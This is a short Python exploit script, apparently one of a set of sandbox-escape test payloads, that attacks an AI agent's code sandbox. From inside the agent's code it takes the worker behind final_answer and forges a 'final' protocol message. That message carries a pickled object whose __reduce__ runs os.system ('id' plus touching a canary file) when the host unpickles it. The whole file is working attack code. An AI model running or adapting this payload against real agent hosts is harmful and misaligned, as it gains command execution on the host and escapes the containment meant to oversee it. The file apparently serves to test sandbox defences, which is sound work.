# Technique: protocol forgery from inside the sandbox: the worker's channel is reachable from agent code (through
#            final_answer's bound worker), so the payload writes its own "final" message whose value is a pickle
#            that runs a shell when unpickled - harmless unless the host unpickles data from the sandbox
# Goal: d (run a shell command on the host)
# Source: written for this sandbox; cf. smolagents CVE-2025-14931 (pickle in remote executor results).
#         Under plain exec there is no final_answer and no host to attack: the payload stops with KeyError.
# Requires: stdlib (pickle, base64, os)
import base64
import os
import pickle


class Shell:
    def __reduce__(self):
        return (os.system, ("id; echo SHELL-ESCAPE-$((6*7)); touch /tmp/canary/shell_ran",))


blob = base64.b64encode(pickle.dumps(Shell())).decode()
hooks = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)
worker = hooks["final_answer"].__self__
worker.channel.send({"op": "final", "v": {"$t": "pickle", "v": blob}})
worker.channel.send({"op": "done", "id": 1, "final": True, "logs": "", "rest": "", "restart": None})
